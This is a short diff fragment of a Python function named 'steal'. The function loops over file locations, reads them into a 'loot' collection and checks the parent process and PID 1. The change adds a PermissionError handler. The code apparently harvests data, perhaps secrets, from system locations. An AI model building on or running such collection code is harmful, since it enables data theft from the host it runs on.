@@ -27,6 +27,8 @@ def steal():
                 run(file.read(), loot)
                 print("read", place)
                 return loot
+        except PermissionError as error:
+            print(place, error.strerror)
         except OSError:
             continue
     for pid in (os.getppid(), 1):
